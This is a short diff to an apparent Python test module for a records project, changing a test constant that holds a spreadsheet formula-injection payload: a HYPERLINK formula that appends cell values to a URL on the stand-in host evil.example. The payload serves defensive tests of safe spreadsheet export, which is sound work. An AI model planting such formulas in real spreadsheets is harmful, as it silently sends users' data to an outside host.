@@ -15,7 +15,7 @@ from gongzhi.places.models import Household
 from gongzhi.testing.audited import download, refused_without_row
 from gongzhi.testing.hostile_cells import CONTROLS, FORMULAS, MIXED, assert_written_safely, read_back
 
-FORMULA = '=HYPERLINK("http://evil.example/x?d="&R2&S2,"点击查看")'
+FORMULA = '=HYPERLINK("http://evil.example/?d="&R2,"点击查看")'
 
 
 def _stored(texts) -> list[str]:
